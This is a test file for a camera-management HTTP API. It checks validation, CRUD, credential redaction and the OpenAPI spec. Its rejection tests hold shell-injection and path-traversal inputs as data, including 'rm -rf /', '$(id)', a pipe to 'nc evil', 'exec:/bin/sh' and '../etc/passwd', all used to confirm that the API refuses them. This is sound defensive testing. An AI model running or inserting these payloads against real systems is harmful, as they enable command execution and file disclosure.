import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { pino } from 'pino';
import { cameraRoutes } from '../../server/src/cameras/routes.js';
import { type CameraStatus, type CameraStatusSource, initialStatus } from '../../server/src/cameras/status.js';
import { CameraStore } from '../../server/src/cameras/store.js';
import { toEventSettings } from '../../server/src/config/events-config.js';
import { loadConfig } from '../../server/src/config/load.js';
import { DEFAULT_MOTION_CONFIG } from '../../server/src/config/motion.js';
import type { EngineHealth } from '../../server/src/engines/engines.js';
import { EventBus } from '../../server/src/events/bus.js';
import { BODY_LIMIT, buildApp, type CamstackApp } from '../../server/src/http/app.js';
import { registerOpenApi } from '../../server/src/http/openapi.js';

const tmpRoot = mkdtempSync(join(tmpdir(), 'camstack-api-'));
after(() => rmSync(tmpRoot, { recursive: true, force: true }));

const running: EngineHealth = { state: 'running', pid: 100, restarts: 0, lastError: null };

const GARAGE_OPTION = {
  id: 'garage',
  name: 'Garage',
  source: 'rtsp://garage.local/s',
  username: 'garage-user',
  password: 'garage-secret',
};
const FRONT = { id: 'front', name: 'Front door', source: 'rtsp://front.local/stream' };

interface Harness {
  app: CamstackApp;
  store: CameraStore;
  bus: EventBus;
  optionsPath: string;
  camerasPath: string;
  statuses: Map<string, CameraStatus>;
}

async function harness(opts: { fileCameras?: Record<string, unknown>[]; maxCameras?: number } = {}): Promise<Harness> {
  const dir = mkdtempSync(join(tmpRoot, 'case-'));
  const optionsPath = join(dir, 'options.json');
  const camerasPath = join(dir, 'cameras.yaml');
  writeFileSync(
    optionsPath,
    JSON.stringify({
      cameras_file: camerasPath,
      cameras: [GARAGE_OPTION],
      ...(opts.maxCameras === undefined ? {} : { max_cameras: opts.maxCameras }),
    }),
  );
  writeFileSync(camerasPath, `${JSON.stringify({ cameras: opts.fileCameras ?? [FRONT] })}\n`);
  const config = loadConfig({ optionsPath, env: {} });
  const bus = new EventBus();
  const store = new CameraStore({
    cameras: config.cameras,
    camerasFile: config.camerasFile,
    maxCameras: config.maxCameras,
    allowTestSources: false,
    bus,
  });
  // The HTTP layer's inputs: engine health and camera status, as snapshots.
  const statuses = new Map<string, CameraStatus>();
  const status: CameraStatusSource = { get: (id) => statuses.get(id), all: () => [...statuses.values()] };
  const app = await buildApp({
    logger: pino({ level: 'silent' }),
    version: '9.9.9',
    engineHealth: () => ({ go2rtc: running, mediamtx: running }),
    plugins: [
      (a) => registerOpenApi(a, { version: '9.9.9' }),
      async (a) => {
        await a.register(cameraRoutes, { store, status });
      },
    ],
  });
  after(() => app.close());
  return { app, store, bus, optionsPath, camerasPath, statuses };
}

interface Sent {
  method: 'GET' | 'POST' | 'PUT' | 'DELETE';
  url: string;
  /** An object is sent as JSON; a string is sent as is. */
  body?: unknown;
  contentType?: string;
}

async function send(h: Harness, req: Sent) {
  const raw = req.body === undefined ? undefined : typeof req.body === 'string' ? req.body : JSON.stringify(req.body);
  return h.app.inject({
    method: req.method,
    url: req.url,
    ...(raw === undefined ? {} : { payload: raw }),
    headers: raw === undefined ? {} : { 'content-type': req.contentType ?? 'application/json' },
  });
}

/** What must not change after a rejected request: the API's list and the file's bytes. */
async function snapshot(h: Harness): Promise<{ list: string; file: string | null }> {
  const list = await h.app.inject({ method: 'GET', url: '/api/cameras' });
  assert.equal(list.statusCode, 200);
  return { list: list.body, file: existsSync(h.camerasPath) ? readFileSync(h.camerasPath, 'utf8') : null };
}

interface ErrorJson {
  statusCode: number;
  error: string;
  code: string;
  message: string;
  problems: { field: string; message: string }[];
}

function errorJson(body: string): ErrorJson {
  const json = JSON.parse(body) as ErrorJson;
  assert.deepEqual(Object.keys(json).sort(), ['code', 'error', 'message', 'problems', 'statusCode']);
  assert.equal(typeof json.message, 'string');
  assert.ok(json.message.length > 0);
  assert.ok(Array.isArray(json.problems));
  return json;
}

const long = (n: number) => 'a'.repeat(n);

interface BadCase {
  name: string;
  req: Sent;
  status: number;
  /** A problem must name this field (omitted: the error is not about a field). */
  field?: string;
  /** The message must match. */
  message?: RegExp;
}

const post = (body: unknown): Sent => ({ method: 'POST', url: '/api/cameras', body });
const postWith = (extra: Record<string, unknown>): Sent =>
  post({ id: 'new_cam', name: 'New', source: 'rtsp://new.local/s', ...extra });
const put = (body: unknown, id = 'front'): Sent => ({ method: 'PUT', url: `/api/cameras/${id}`, body });

const BAD_SOURCES: [string, string][] = [
  ['ftp scheme', 'ftp://cam.local/stream'],
  ['file scheme', 'file:///etc/passwd'],
  ['exec source', 'exec:/bin/sh -c id'],
  ['exec without spaces', 'exec:id'],
  ['shell ;', 'rtsp://h/x;rm -rf /'],
  ['shell $()', 'rtsp://h/$(id)'],
  ['shell backticks', 'rtsp://h/`id`'],
  ['shell pipe', 'rtsp://h/x|nc evil 1'],
  ['space', 'rtsp://h/a b'],
  ['newline', 'rtsp://h/a\nb'],
  ['leading -', '-i /etc/passwd'],
  ['leading - url', '-rtsp://h/x'],
  ['no scheme', 'cam.local/stream'],
  ['no host', 'rtsp:///stream'],
  ['test source when not allowed', 'ffmpeg:virtual?video=testsrc'],
  ['too long', `rtsp://h/${long(2050)}`],
  ['empty', ''],
];

const BAD_CASES: BadCase[] = [
  ...BAD_SOURCES.map(([name, source]) => ({
    name: `POST source: ${name}`,
    req: postWith({ source }),
    status: 400,
    field: 'source',
  })),
  ...BAD_SOURCES.map(([name, source]) => ({
    name: `PUT source: ${name}`,
    req: put({ source }),
    status: 400,
    field: 'source',
  })),
  { name: 'POST substream: ftp', req: postWith({ substream: 'ftp://h/x' }), status: 400, field: 'substream' },
  { name: 'POST id with /', req: postWith({ id: 'a/b' }), status: 400, field: 'id' },
  { name: 'POST id ..', req: postWith({ id: '..' }), status: 400, field: 'id' },
  { name: 'POST id uppercase', req: postWith({ id: 'Front' }), status: 400, field: 'id', message: /e\.g\. "front"/ },
  { name: 'POST empty id', req: postWith({ id: '' }), status: 400, field: 'id' },
  { name: 'POST id too long', req: postWith({ id: long(65) }), status: 400, field: 'id' },
  { name: 'POST id not a string', req: postWith({ id: 7 }), status: 400, field: 'id' },
  { name: 'POST missing id', req: post({ name: 'x', source: 'rtsp://h/s' }), status: 400, field: 'id' },
  { name: 'POST missing source', req: post({ id: 'x', name: 'x' }), status: 400, field: 'source' },
  { name: 'POST duplicate id (file camera)', req: postWith({ id: 'front' }), status: 409, field: 'id' },
  { name: 'POST duplicate id (options camera)', req: postWith({ id: 'garage' }), status: 409, field: 'id' },
  { name: 'POST empty name', req: postWith({ name: '' }), status: 400, field: 'name' },
  { name: 'POST blank name', req: postWith({ name: ' \t ' }), status: 400, field: 'name' },
  { name: 'POST name with control characters', req: postWith({ name: 'Y\u0000Z' }), status: 400, field: 'name' },
  { name: 'POST name too long', req: postWith({ name: long(101) }), status: 400, field: 'name' },
  { name: 'POST unknown field', req: postWith({ foo: 1 }), status: 400, field: 'foo', message: /unknown field "foo"/ },
  {
    name: 'POST unknown recording field',
    req: postWith({ recording: { retainDays: 3, bar: true } }),
    status: 400,
    field: 'recording.bar',
    message: /unknown field "bar"/,
  },
  {
    name: 'POST snake_case field',
    req: postWith({ recording: { retain_days: 3 } }),
    status: 400,
    field: 'recording.retain_days',
  },
  { name: 'POST enabled "yes"', req: postWith({ enabled: 'yes' }), status: 400, field: 'enabled' },
  { name: 'POST enabled "true"', req: postWith({ enabled: 'true' }), status: 400, field: 'enabled' },
  { name: 'POST enabled 1', req: postWith({ enabled: 1 }), status: 400, field: 'enabled' },
  {
    name: 'POST retainDays -1',
    req: postWith({ recording: { retainDays: -1 } }),
    status: 400,
    field: 'recording.retainDays',
  },
  {
    name: 'POST retainDays 1e9',
    req: postWith({ recording: { retainDays: 1e9 } }),
    status: 400,
    field: 'recording.retainDays',
  },
  {
    name: 'POST retainDays "7"',
    req: postWith({ recording: { retainDays: '7' } }),
    status: 400,
    field: 'recording.retainDays',
  },
  {
    name: 'POST retainDays 1.5',
    req: postWith({ recording: { retainDays: 1.5 } }),
    status: 400,
    field: 'recording.retainDays',
  },
  {
    name: 'POST preRollSeconds 61',
    req: postWith({ recording: { preRollSeconds: 61 } }),
    status: 400,
    field: 'recording.preRollSeconds',
  },
  { name: 'POST recording null', req: postWith({ recording: null }), status: 400, field: 'recording' },
  { name: 'POST username too long', req: postWith({ username: long(257) }), status: 400, field: 'username' },
  { name: 'POST password a number', req: postWith({ password: 1234 }), status: 400, field: 'password' },
  {
    name: 'POST credentials that disagree with the URL',
    req: postWith({ source: 'rtsp://admin:one-secret@h/s', password: 'two-secret' }),
    status: 400,
    field: 'password',
  },
  { name: 'POST body is an array', req: post([FRONT]), status: 400, field: 'body' },
  { name: 'POST body is a string', req: post('"just a string"'), status: 400, field: 'body' },
  { name: 'POST invalid JSON', req: post('{"id": "x",'), status: 400, message: /not valid JSON/ },
  { name: 'POST __proto__', req: post('{"__proto__": {"x": 1}, "id": "x"}'), status: 400 },
  { name: 'POST empty JSON body', req: post(''), status: 400 },
  {
    name: 'POST text/plain',
    req: { method: 'POST', url: '/api/cameras', body: JSON.stringify(FRONT), contentType: 'text/plain' },
    status: 400,
  },
  {
    name: 'POST unsupported content type',
    req: { method: 'POST', url: '/api/cameras', body: '<x/>', contentType: 'application/xml' },
    status: 415,
  },
  {
    name: 'POST body over 64 KiB',
    req: postWith({ name: 'x', filler: long(BODY_LIMIT) }),
    status: 413,
    message: /too large/,
  },
  { name: 'PUT body over 64 KiB', req: put({ name: long(BODY_LIMIT + 10) }), status: 413 },
  { name: 'PUT unknown field', req: put({ nmae: 'typo' }), status: 400, field: 'nmae' },
  { name: 'PUT unknown recording field', req: put({ recording: { days: 1 } }), status: 400, field: 'recording.days' },
  { name: 'PUT enabled "yes"', req: put({ enabled: 'yes' }), status: 400, field: 'enabled' },
  {
    name: 'PUT retainDays "7"',
    req: put({ recording: { retainDays: '7' } }),
    status: 400,
    field: 'recording.retainDays',
  },
  { name: 'PUT blank name', req: put({ name: '   ' }), status: 400, field: 'name' },
  { name: 'PUT name with a NUL', req: put({ name: 'Y\u0000Z' }), status: 400, field: 'name' },
  {
    name: 'PUT username with a newline',
    req: put({ name: 'x', username: 'admin\nroot' }),
    status: 400,
    field: 'username',
  },
  { name: 'PUT changing the id', req: put({ id: 'back', name: 'Back' }), status: 400, field: 'id' },
  { name: 'PUT invalid JSON', req: put('{'), status: 400 },
  { name: 'PUT unknown camera', req: put({ name: 'x' }, 'nope'), status: 404 },
  {
    name: 'PUT options camera',
    req: put({ name: 'x' }, 'garage'),
    status: 409,
    message: /add-on configuration/,
  },
  { name: 'PUT id param uppercase', req: put({ name: 'x' }, 'Front'), status: 400, field: 'id' },
  { name: 'PUT id param %2F', req: put({ name: 'x' }, 'a%2Fb'), status: 400, field: 'id' },
  {
    name: 'PUT id param ../ encoded',
    req: put({ name: 'x' }, '%2e%2e%2f%2e%2e%2fetc%2fpasswd'),
    status: 400,
    field: 'id',
  },
  { name: 'DELETE unknown camera', req: { method: 'DELETE', url: '/api/cameras/nope' }, status: 404 },
  { name: 'DELETE options camera', req: { method: 'DELETE', url: '/api/cameras/garage' }, status: 409 },
  { name: 'DELETE id with %2F', req: { method: 'DELETE', url: '/api/cameras/front%2F..' }, status: 400, field: 'id' },
  { name: 'GET unknown camera', req: { method: 'GET', url: '/api/cameras/nope' }, status: 404 },
  { name: 'GET status of an unknown camera', req: { method: 'GET', url: '/api/cameras/nope/status' }, status: 404 },
  { name: 'GET full of an unknown camera', req: { method: 'GET', url: '/api/cameras/nope/full' }, status: 404 },
  { name: 'GET id uppercase', req: { method: 'GET', url: '/api/cameras/FRONT' }, status: 400, field: 'id' },
  { name: 'GET id with NUL', req: { method: 'GET', url: '/api/cameras/front%00' }, status: 400, field: 'id' },
];

describe('camera API: bad input is a clear 4xx naming the field and changes nothing', async () => {
  const h = await harness();
  for (const c of BAD_CASES) {
    it(c.name, async () => {
      const before = await snapshot(h);
      const res = await send(h, c.req);
      assert.equal(res.statusCode, c.status, res.body);
      const json = errorJson(res.body);
      assert.equal(json.statusCode, c.status);
      if (c.field !== undefined) {
        assert.ok(
          json.problems.some((p) => p.field === c.field),
          `no problem names ${c.field}: ${JSON.stringify(json.problems)}`,
        );
        assert.ok(json.message.includes(c.field) || c.field === 'body', `message does not name ${c.field}`);
      }
      if (c.message) assert.match(json.message, c.message);
      assert.deepEqual(await snapshot(h), before);
    });
  }

  it('reports every problem of a request at once', async () => {
    const res = await send(h, post({ id: 'Bad', name: '', source: 'ftp://x', enabled: 'yes', extra: 1 }));
    const json = errorJson(res.body);
    assert.deepEqual(json.problems.map((p) => p.field).sort(), ['enabled', 'extra', 'id', 'name']);
  });

  it('paths that are not camera ids never reach a handler or the disk', async () => {
    const before = await snapshot(h);
    for (const url of [
      '/api/cameras/..',
      '/api/cameras/../../etc/passwd',
      '/api/cameras/%2F',
      '/api/cameras/%2Fetc%2Fpasswd',
      '/api/cameras/%E0%A4%A',
      `/api/cameras/${long(200)}`,
      '/api/cameras/%2E%2E',
      '/api/cameras/%2e%2e/%2e%2e/etc/passwd',
    ]) {
      for (const method of ['GET', 'PUT', 'DELETE'] as const) {
        const res = await send(h, { method, url, ...(method === 'PUT' ? { body: { name: 'x' } } : {}) });
        assert.ok(res.statusCode >= 400 && res.statusCode < 500, `${method} ${url} → ${res.statusCode}`);
      }
    }
    assert.deepEqual(await snapshot(h), before);
  });
});

describe('camera API: create, read, change, delete', () => {
  it('POST creates (201, Location, the view), persists, and GET returns it', async () => {
    const h = await harness();
    const added: string[] = [];
    h.bus.on('camera.added', (e) => added.push(e.camera.id), 'test');
    const res = await send(h, postWith({ id: 'yard', name: 'Yard', recording: { continuous: true } }));
    assert.equal(res.statusCode, 201, res.body);
    assert.equal(res.headers.location, '/api/cameras/yard');
    const view = res.json();
    assert.deepEqual(view, {
      id: 'yard',
      name: 'Yard',
      source: 'rtsp://new.local/s',
      substream: null,
      hasCredentials: false,
      enabled: true,
      sourceType: 'rtsp',
      origin: 'file',
      readOnly: false,
      recording: { continuous: true, retainDays: 7, clipRetainDays: 30, preRollSeconds: 0, clipSeconds: 20 },
      events: toEventSettings(undefined),
      onvif: null,
      motion: DEFAULT_MOTION_CONFIG,
    });
    assert.deepEqual((await send(h, { method: 'GET', url: '/api/cameras/yard' })).json(), view);
    assert.deepEqual(added, ['yard']);
    const reloaded = loadConfig({ optionsPath: h.optionsPath, env: {} });
    assert.deepEqual(
      reloaded.cameras.map((c) => c.id),
      ['garage', 'front', 'yard'],
    );
  });

  it('Location carries the Home Assistant ingress prefix when there is one', async () => {
    const h = await harness();
    const res = await h.app.inject({
      method: 'POST',
      url: '/api/cameras',
      payload: { id: 'yard', name: 'Yard', source: 'rtsp://yard.local/s' },
      headers: { 'x-ingress-path': '/api/hassio_ingress/abc-DEF_123' },
    });
    assert.equal(res.headers.location, '/api/hassio_ingress/abc-DEF_123/api/cameras/yard');
  });

  it('PUT merges, keeps the id, and the options camera shows as read-only', async () => {
    const h = await harness({ fileCameras: [{ ...FRONT, enabled: false, recording: { retain_days: 12 } }] });
    const res = await send(h, put({ name: 'Porch', recording: { clipSeconds: 30 } }));
    assert.equal(res.statusCode, 200, res.body);
    const view = res.json();
    assert.equal(view.id, 'front');
    assert.equal(view.name, 'Porch');
    assert.equal(view.enabled, false);
    assert.deepEqual(view.recording, {
      continuous: false,
      retainDays: 12,
      clipRetainDays: 30,
      preRollSeconds: 0,
      clipSeconds: 30,
    });
    const list = (await send(h, { method: 'GET', url: '/api/cameras' })).json() as { id: string; readOnly: boolean }[];
    assert.deepEqual(
      list.map((c) => `${c.id}:${c.readOnly}`),
      ['garage:true', 'front:false'],
    );
  });

  it('DELETE answers 204 without a body and the camera is gone from the file', async () => {
    const h = await harness();
    const res = await send(h, { method: 'DELETE', url: '/api/cameras/front' });
    assert.equal(res.statusCode, 204);
    assert.equal(res.body, '');
    assert.equal((await send(h, { method: 'GET', url: '/api/cameras/front' })).statusCode, 404);
    assert.deepEqual(
      loadConfig({ optionsPath: h.optionsPath, env: {} }).cameras.map((c) => c.id),
      ['garage'],
    );
  });

  it('max_cameras reached is a 409 saying so', async () => {
    const h = await harness({ maxCameras: 2 });
    const res = await send(h, postWith({}));
    assert.equal(res.statusCode, 409);
    assert.equal(errorJson(res.body).message, 'at most 2 cameras (max_cameras); remove one first');
  });

  it('YAML-special names are stored safely and round-trip exactly', async () => {
    const h = await harness();
    const names = [
      'Front: door # not a comment second: line',
      '- [a, b] & *alias !tag %x @y `z` | > x',
      'it\'s "quoted" \\ back\\slash',
      'null',
      'yes',
      '0x1F',
      '--- ...',
      '&anchor *ref: {x}',
      'Üñíçødé 📷 \u2028 sep',
    ];
    for (const name of names) {
      const res = await send(h, put({ name }));
      assert.equal(res.statusCode, 200, res.body);
      assert.equal(res.json().name, name);
      const reloaded = loadConfig({ optionsPath: h.optionsPath, env: {} });
      assert.equal(reloaded.cameras.find((c) => c.id === 'front')?.name, name, JSON.stringify(name));
      assert.equal(reloaded.cameras.length, 2);
    }
    // Surrounding whitespace is trimmed (documented); what is stored round-trips.
    assert.equal((await send(h, put({ name: '  padded  ' }))).json().name, 'padded');
    // Control characters would reach MQTT and Home Assistant as they are: refused, nothing changed.
    for (const name of ['line\nbreak', 'tab\tcr\r', 'nul\u0000 end', 'esc\u001b[31m', 'c1\u0085']) {
      const res = await send(h, put({ name }));
      assert.equal(res.statusCode, 400, JSON.stringify(name));
      assert.equal(h.store.get('front')?.name, 'padded');
    }
    // A fresh store built from the file holds the same.
    const fresh = loadConfig({ optionsPath: h.optionsPath, env: {} });
    assert.deepEqual(fresh.cameras, h.store.list());
  });
});

describe('camera API: credentials are split out and never returned', () => {
  it('no username, password or credential query value in any response', async () => {
    const h = await harness();
    const secrets = ['cam-admin', 's3cr3t-Pa55', 'tok-98765', 'sub-secret'];
    const res = await send(
      h,
      postWith({
        id: 'secure',
        source: 'rtsp://cam-admin:s3cr3t-Pa55@secure.local:554/live?token=tok-98765&channel=1',
        substream: 'rtsp://secure.local/sub?password=sub-secret',
      }),
    );
    assert.equal(res.statusCode, 201, res.body);
    const view = res.json();
    assert.equal(view.source, 'rtsp://secure.local:554/live?token=***&channel=1');
    assert.equal(view.substream, 'rtsp://secure.local/sub?password=***');
    assert.equal(view.hasCredentials, true);
    assert.ok(!('username' in view) && !('password' in view));

    const bodies = [res.body];
    for (const url of ['/api/cameras', '/api/cameras/secure', '/api/cameras/secure/full', '/api/overview']) {
      bodies.push((await send(h, { method: 'GET', url })).body);
    }
    bodies.push((await send(h, put({ name: 'Secure cam' }, 'secure'))).body);
    bodies.push((await send(h, put({ source: 'rtsp://other:other-pass@h/s', username: 'mismatch' }, 'secure'))).body);
    for (const body of bodies) {
      for (const secret of [...secrets, 'garage-user', 'garage-secret', 'other-pass']) {
        assert.ok(!body.includes(secret), `${secret} in ${body}`);
      }
    }
    // Stored apart, in the file.
    const stored = h.store.get('secure');
    assert.equal(stored?.username, 'cam-admin');
    assert.equal(stored?.password, 's3cr3t-Pa55');
    assert.equal(stored?.source, 'rtsp://secure.local:554/live?token=tok-98765&channel=1');
    const text = readFileSync(h.camerasPath, 'utf8');
    assert.match(text, /password: s3cr3t-Pa55/);
    assert.doesNotMatch(text, /cam-admin:|@secure\.local/);
  });

  it('PUT with the redacted URL it was shown keeps the stored URL', async () => {
    const h = await harness();
    const created = await send(h, postWith({ id: 'q', source: 'http://q.local/snap.jpg?user=u1&pwd=p-secret' }));
    const shown = created.json().source as string;
    assert.equal(shown, 'http://q.local/snap.jpg?user=***&pwd=***');
    const res = await send(h, put({ source: shown, enabled: false }, 'q'));
    assert.equal(res.statusCode, 200, res.body);
    assert.equal(h.store.get('q')?.source, 'http://q.local/snap.jpg?user=u1&pwd=p-secret');
  });
});

describe('camera API: status routes', () => {
  it('status, all statuses, full and overview combine configuration and status', async () => {
    const h = await harness();
    const streaming: CameraStatus = {
      ...initialStatus('front'),
      state: 'streaming',
      viewers: 2,
      uptimeSeconds: 61,
      lastFrameAt: '2026-01-01T00:00:00.000Z',
      bitrateKbps: 2048.5,
      fps: 25,
      codec: 'h264',
      resolution: '1920x1080',
    };
    h.statuses.set('front', streaming);
    h.statuses.set('removed_cam', initialStatus('removed_cam'));

    assert.deepEqual((await send(h, { method: 'GET', url: '/api/cameras/front/status' })).json(), streaming);
    assert.deepEqual(
      (await send(h, { method: 'GET', url: '/api/cameras/garage/status' })).json(),
      initialStatus('garage'),
      'a camera without a status yet is idle',
    );
    assert.deepEqual((await send(h, { method: 'GET', url: '/api/status' })).json(), [
      initialStatus('garage'),
      streaming,
    ]);
    const full = (await send(h, { method: 'GET', url: '/api/cameras/front/full' })).json();
    assert.equal(full.camera.id, 'front');
    assert.deepEqual(full.status, streaming);
    const overview = (await send(h, { method: 'GET', url: '/api/overview' })).json() as {
      cameras: { camera: { id: string }; status: CameraStatus }[];
    };
    assert.deepEqual(
      overview.cameras.map((c) => `${c.camera.id}:${c.status.state}`),
      ['garage:idle', 'front:streaming'],
    );
  });
});

describe('camera API: OpenAPI document', () => {
  const ROUTES: [string, string][] = [
    ['get', '/api/cameras'],
    ['post', '/api/cameras'],
    ['get', '/api/cameras/{id}'],
    ['put', '/api/cameras/{id}'],
    ['delete', '/api/cameras/{id}'],
    ['get', '/api/cameras/{id}/status'],
    ['get', '/api/cameras/{id}/full'],
    ['get', '/api/status'],
    ['get', '/api/overview'],
  ];

  it('GET /api/openapi.json is an OpenAPI 3 document listing every camera route', async () => {
    const h = await harness();
    const res = await send(h, { method: 'GET', url: '/api/openapi.json' });
    assert.equal(res.statusCode, 200);
    const doc = res.json() as {
      openapi: string;
      info: { title: string; version: string };
      paths: Record<string, Record<string, Record<string, unknown>>>;
    };
    assert.match(doc.openapi, /^3\.\d+\.\d+$/);
    assert.equal(doc.info.title, 'Camstack API');
    assert.equal(doc.info.version, '9.9.9');
    const operationIds = new Set<string>();
    for (const [method, path] of ROUTES) {
      const op = doc.paths[path]?.[method] as
        | {
            tags?: string[];
            summary?: string;
            parameters?: { in: string; name: string; required?: boolean; schema?: unknown }[];
            requestBody?: { content: Record<string, { schema: unknown }> };
            responses: Record<string, { description: string; content?: Record<string, { schema: unknown }> }>;
          }
        | undefined;
      assert.ok(op, `${method.toUpperCase()} ${path} missing`);
      assert.ok(op.tags && op.tags.length > 0, `${method} ${path} has no tags`);
      assert.ok(op.summary, `${method} ${path} has no summary`);
      for (const param of path.match(/\{(\w+)\}/g) ?? []) {
        const name = param.slice(1, -1);
        const p = op.parameters?.find((x) => x.in === 'path' && x.name === name);
        assert.ok(p?.required === true && p.schema, `${method} ${path}: path parameter ${name} not declared`);
      }
      if (method === 'post' || method === 'put') {
        assert.ok(op.requestBody?.content['application/json']?.schema, `${method} ${path} has no body schema`);
      }
      const codes = Object.keys(op.responses);
      assert.ok(
        codes.some((c) => /^2\d\d$/.test(c)),
        `${method} ${path} has no success response`,
      );
      for (const [code, response] of Object.entries(op.responses)) {
        assert.match(code, /^[1-5]\d\d$|^default$/);
        assert.equal(typeof response.description, 'string');
      }
      operationIds.add(`${method} ${path}`);
    }
    // Credentials are input-only: no response schema mentions them.
    const responses = JSON.stringify(
      Object.values(doc.paths).flatMap((ops) => Object.values(ops).map((op) => op.responses)),
    );
    assert.doesNotMatch(responses, /"username"|"password"/);
    // No dangling references.
    for (const ref of res.body.match(/"\$ref":"[^"]+"/g) ?? []) {
      const pointer = ref.slice(9, -1);
      assert.ok(pointer.startsWith('#/'), ref);
      let node: unknown = doc;
      for (const seg of pointer.slice(2).split('/')) node = (node as Record<string, unknown>)[seg];
      assert.ok(node !== undefined, `${ref} does not resolve`);
    }
  });
});
